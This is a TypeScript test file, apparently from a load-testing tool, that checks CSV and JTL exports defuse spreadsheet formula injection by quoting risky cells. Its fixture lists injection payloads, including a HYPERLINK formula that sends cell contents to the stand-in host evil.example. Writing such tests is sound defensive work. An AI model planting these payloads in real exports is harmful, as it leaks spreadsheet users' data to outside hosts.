/**
 * Issue 20 point 8: an endpoint chooses its error's `__type`, a CUT its request names: a CSV or JTL
 * cell starting with = + - @ tab or CR would be run by a spreadsheet. Such text cells get a leading
 * `'` (OWASP's CSV injection advice); numbers (a negative one included) are left as they are.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvFormat } from '../src/output/formats/formatEvents.js';
import { jtlFormat } from '../src/output/formats/jtl.js';
import type { EventBatchView, RunnerLabels } from '../src/core/events.js';
import { EVENT_FIELDS, F_BEGIN, F_ELAPSED, F_ERR, F_KEY, F_RC, F_SERVICE, F_STEP, F_TX } from '../src/core/protocol.js';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-2+3', '@SUM(A1)', '\tTAB', '\rCR'];

const runner: RunnerLabels = {
  id: '=line',
  index: 0,
  slot: 0,
  tx: '0:',
  cut: 'Echo',
  line: 0,
  keys: HOSTILE.map((request) => ({ nature: 'req' as const, request })),
  errors: HOSTILE,
};

function batch(): EventBatchView {
  const n = HOSTILE.length;
  const events = new Float64Array(n * EVENT_FIELDS);
  for (let i = 0; i < n; i++) {
    const o = i * EVENT_FIELDS;
    events[o + F_BEGIN] = 1796417761713 + i;
    events[o + F_ELAPSED] = 1.5;
    events[o + F_KEY] = i;
    events[o + F_STEP] = 16;
    events[o + F_RC] = -1;
    events[o + F_TX] = -1;
    events[o + F_ERR] = i;
    events[o + F_SERVICE] = 1.5;
  }
  return { runner, events, n, localCountBefore: 0, localTps: 0, globalCountBefore: 0, globalTps: 0, activeRunners: 1, lineActiveRunners: 1 };
}

const risky = /^[=+\-@\t\r]/;

describe('CSV and JTL cells a spreadsheet would run', () => {
  it('csv: no text cell starts with = + - @ tab or CR; the text is kept after a leading quote', () => {
    const rows = parse(csvFormat.header() + csvFormat.batch(batch()), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(HOSTILE.length);
    for (const [i, row] of rows.entries()) {
      for (const col of ['request', 'error', 'id', 'full_id', 'nature', 'cut']) {
        if (row[col] !== undefined) expect(row[col], `${col} of row ${i}`).not.toMatch(risky);
      }
      expect(row.request).toBe(`'${HOSTILE[i]}`);
      expect(row.id).toBe(`'=line`);
    }
  });

  it('jtl: label, responseMessage, failureMessage neutralised; responseCode -1 stays a number', () => {
    const rows = parse(jtlFormat.header() + jtlFormat.batch(batch()), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(HOSTILE.length);
    for (const [i, row] of rows.entries()) {
      for (const col of ['label', 'responseMessage', 'failureMessage', 'threadName']) expect(row[col], `${col} of row ${i}`).not.toMatch(risky);
      expect(row.label).toBe(`'${HOSTILE[i]}`);
      expect(row.failureMessage).toBe(`'${HOSTILE[i]}`);
      expect(row.responseCode).toBe('-1');
    }
  });
});
